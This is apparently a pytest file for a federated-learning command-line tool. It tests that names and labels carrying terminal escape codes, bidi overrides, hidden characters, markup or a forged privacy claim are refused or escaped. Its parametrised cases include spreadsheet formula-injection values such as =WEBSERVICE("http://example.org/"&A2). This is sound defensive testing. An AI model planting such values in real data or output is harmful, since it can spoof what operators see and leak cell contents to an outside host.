"""A coordinator that forges the approval page: names that clear the screen, hide, reorder, or pass for its sentences.

First every place that the coordinator names something in is read with such a name, which is refused. Then the check at
reading is taken away, and all that prints is played with the same names: nothing raw may come out.
"""

# ruff: noqa: F811
import io
import json
import re
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import tomli_w
from rich.live import Live
from rich.markup import escape
from rich.table import Table
from rich.text import Text

from fedct_flwr.cli import main
from fedct_flwr.config.silo import SiloConfig
from fedct_flwr.datasets.study_folder import read_study
from fedct_flwr.hospital.study_agent import StudyAgent
from fedct_flwr.report.page import document
from fedct_flwr.report.summary import RunSummary
from fedct_flwr.text.console import SafeConsole
from fedct_flwr.text.printable import fault, printable, quoted
from fedct_flwr.types import ConfigError, DataError
from tests.cli.conftest import fedct, here, kit  # noqa: F401 - fixtures, which tests name as arguments
from tests.cli.runner import Outcome
from tests.cli.silos import Kit
from tests.hospitals import write_silo_folder
from tests.report.folders import add_round, add_scores, begin
from tests.sentences import sentence

Fedct = Callable[..., Outcome]

# The last test has all of them.
CHARS = ("\x1b", "\u202e", "\u3164", "\n")
FORGED = "Differential privacy is guaranteed (epsilon 0.1)"
HOSTILE = (
    f"ill\x1b[2J\x1b[H\r\n{FORGED}\u202e\u2066\u200b\x9b\u2028\u2029\ue000\u0378\u3164e{'́' * 30}"
    "[bold red]loud[/bold red][link=https://example.org]here[/link]:warning:\\"
)
ROOT = Path(__file__).parents[2]
HIDDEN = {"Cc", "Cf", "Cn", "Co", "Cs", "Zl", "Zp"}


def assert_plain(text: str) -> None:
    """No raw control or hidden character but line feeds, and no flood of marks."""
    raw = {char for char in text if char != "\n" and unicodedata.category(char) in HIDDEN}
    assert not raw, f"{raw} in {text!r}"
    assert "\u3164" not in text
    assert "́" * 5 not in text


def assert_inert(text: str) -> None:
    """Plain, markup shown as it was written, and no line that the name has begun."""
    assert_plain(text)
    assert not re.search(rf"^\s*{re.escape(FORGED)}", text, re.MULTILINE), text
    assert "⚠" not in text


def rewritten(folder: Path, **changes: Any) -> None:
    """Change keys of the study's ``study.toml``."""
    said = {"study": "hearts", "classes": ["healthy", "diseased"], **changes}
    (folder / "study.toml").write_text(tomli_w.dumps(said), encoding="utf-8")


def public_with(folder: Path, header: str = "age", value: str = "a") -> None:
    quote = '"{}"'.format
    text = f"{quote(header.replace(chr(34), ''))},ward\n50,{quote(value)}\n51,b\n"
    (folder / "public.csv").write_bytes(text.encode())


@pytest.fixture
def study(tmp_path: Path) -> Path:
    folder = tmp_path / "study"
    folder.mkdir()
    rewritten(folder)
    public_with(folder)
    return folder


# --- reading


@pytest.mark.parametrize("char", CHARS)
@pytest.mark.parametrize("place", ["classes.1", "public", "test-label", "column", "value", "study"])
def test_a_name_that_hides_something_is_refused_where_it_stands(study: Path, place: str, char: str) -> None:
    name = f"ill{char}ness"
    changes: dict[str, dict[str, Any]] = {
        "classes.1": {"classes": ["healthy", name]},
        "public": {"public": f"{name}.csv"},
        "test-label": {"test-file": "test.csv", "test-label": name},
        "study": {"study": name},
    }
    if place in changes:
        rewritten(study, **changes[place])
    elif place == "column":
        public_with(study, header=name)
    else:
        public_with(study, value=name)
    said = sentence((ConfigError, DataError), read_study, study)
    assert_plain(said)
    where = "public.csv" if place in ("column", "value") else "study.toml"
    assert where in said
    if place in changes:
        assert said.startswith(f"{place} = ")
    if place != "study":  # names of studies have a pattern of their own
        assert f"U+{ord(char):04X}" in said
        assert "ask its author to" in said


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("x" * 257, "it has 257 characters, and 256 are the most"),
        # It was minutes.
        ("=" + "|" * 1_000_000, "it has 1,000,001 characters"),
        ("ill ", "it is empty, or begins or ends with a blank"),
        ("", "it is empty, or begins or ends with a blank"),
        ("\u0301ill", "the combining mark U+0301 (COMBINING ACUTE ACCENT) stands on nothing"),
        ('=WEBSERVICE("http://example.org/"&A2)', "a spreadsheet would run it as a formula"),
        ('=HYPERLINK ("http://example.org/"&A2)', "a spreadsheet would run it as a formula"),
        ("+HYPERLINK(A2)", "a spreadsheet would run it as a formula"),
        (r"='\\example.org\share\[a.xlsx]b'!A1", "a spreadsheet would run it as a formula"),
        ("\uff1dHYPERLINK(A2)", "a spreadsheet would run it as a formula"),
        # Where commas are decimal signs, a line is cut here, and this is a cell of its own.
        ("ill;=WEBSERVICE(A2)", "a spreadsheet would run it as a formula"),
    ],
    ids=range(11),
)
def test_a_class_with_another_fault_is_refused(study: Path, name: str, said: str) -> None:
    rewritten(study, classes=["healthy", name])
    found = sentence(ConfigError, read_study, study)
    assert found.startswith("classes.1 = ")
    assert f"study.toml: {said}" in found
    assert len(found) < 1000


@pytest.mark.parametrize("key", ["superlink", "supernode"])
def test_an_address_that_hides_something_is_refused(tmp_path: Path, key: str) -> None:
    path = write_silo_folder(tmp_path, connection={key: "good.example\u202e:8000"})
    said = sentence(ConfigError, SiloConfig.read_toml, path)
    assert f"connection.{key} = 'good.example\\u202e:8000'" in said
    assert "U+202E (RIGHT-TO-LEFT OVERRIDE)" in said


# --- printing


@pytest.mark.filterwarnings("ignore")
def test_the_page_quotes_classes_one_a_line_and_cuts_them(fedct: Fedct, kit: Kit) -> None:
    names = [f"a'. {FORGED}", f"b{' ' * 70}{FORGED}", f"c. {FORGED}, and every label that leaves has noise", "[bold]d"]
    path = kit.folder / "study" / "study.toml"
    classes = json.dumps(["healthy", "diseased", *names, *map(str, range(1000))])
    path.write_text(re.sub(r"^classes = .*?\]$", f"classes = {classes}", path.read_text("utf-8"), flags=re.M | re.S))
    outcome = fedct("silo", "approve", kit.folder, "--yes", "--reason", "test")
    assert outcome.code == 0, outcome.err
    lines = outcome.out.splitlines()
    assert len(lines) < 90
    assert max(map(len, lines)) <= 80
    said = " ".join(outcome.out.split())
    assert "Class 3 of 1,006: 'a\\'. Differential privacy is guaranteed (…' (12 more characters) Class 4" in said
    assert "  Class 6 of 1,006: '[bold]d'" in lines
    for line in lines:
        assert "Differential privacy is guaranteed" not in line or line.startswith("  Class ")
    assert "  And 986 more classes, which stand in study.toml in the study's folder" in lines


def test_the_agent_says_nothing_raw() -> None:
    said: list[str] = []
    agent = StudyAgent.__new__(StudyAgent)
    agent._tell, agent._code_seen = said.append, ("", 0)
    agent._show_code(SimpleNamespace(run_id=1, code_hash=HOSTILE * 1000))  # type: ignore[arg-type]
    agent._say(f"study {HOSTILE}")
    assert len(said) == 2
    assert len(said[0]) < 1000
    assert "\n" not in "".join(said)
    assert_inert("\n".join(said))


def test_every_module_logs_where_the_filter_is() -> None:
    for path in (path for room in ("fedct_flwr", "client_app", "server_app") for path in (ROOT / room).rglob("*.py")):
        for name in re.findall(r"getLogger\((.*?)\)", path.read_text("utf-8")):
            # These two say where Flower's own log goes, and log nothing themselves.
            if name == '"flwr"' and path.name in ("loopback.py", "rerun.py"):
                continue
            assert name in ('"flwr.fedct"', "LOGGER_NAME", "name"), f"{path}: {name}"


def hostile_run(path: Path) -> RunSummary:
    silos = (HOSTILE, "rome")
    folder = begin(path, silos, learner=HOSTILE)
    add_round(folder, 1, silos)
    add_round(folder, 2, silos[1:], absent={HOSTILE: HOSTILE})
    add_scores(folder, silos)
    folder.finish("failed", reason=HOSTILE)
    return RunSummary(path)


def test_the_report_has_nothing_raw(tmp_path: Path) -> None:
    page = document(hostile_run(tmp_path / "run"))
    scripts = re.search(r'<script type="application/json" id="plots">(.*?)</script>', page, re.DOTALL)
    assert scripts
    assert HOSTILE not in page
    own = re.sub(r"<script>.*?</script>", "", page, flags=re.DOTALL)
    assert_plain(own)
    for text in strings(json.loads(scripts[1])):
        assert_plain(text)


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        yield from value
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


# --- the console, and that there is no way around it


def test_the_console_lets_its_own_styles_through_and_nothing_else() -> None:
    said = io.StringIO()
    console = SafeConsole(file=said, force_terminal=True, width=60, emoji=False, highlight=False)
    table = Table(HOSTILE, title=escape(HOSTILE))
    table.add_row(escape(HOSTILE), Text(HOSTILE))
    console.print(f"[bold]{escape(HOSTILE)}[/]", Text(HOSTILE, "red"), table)
    console.print(HOSTILE, markup=False)
    with Live(table, console=console, auto_refresh=False), console.status(escape(HOSTILE)):
        pass
    text = said.getvalue()
    assert "\x1b[1m" in text
    own = re.sub(r"\x1b\[(?:[0-9;]*m|\?25[lh]|\d*[AK])|\r", "", text)
    assert_plain(own)
    assert "\x1b]8" not in text


def test_an_unexpected_error_is_printed_plainly(capsys: pytest.CaptureFixture[str]) -> None:
    error = RuntimeError(HOSTILE)
    main._show_unexpected(RuntimeError, error, None)
    assert_plain(capsys.readouterr().err)


# --- the function itself


def test_what_is_refused_is_what_is_escaped() -> None:
    for code in (*range(0x3000), 0xFEFF, 0xFFFE, *range(0xD800, 0xD810), 0xE0001, 0x10FFFF):
        char = chr(code)
        if unicodedata.category(char) in HIDDEN:
            assert printable(char) != char
            assert f"U+{code:04X}" in (fault(char) or "")
        assert_plain(printable(char))
        assert_plain(quoted(char))
        assert printable(printable(char)) == printable(char)
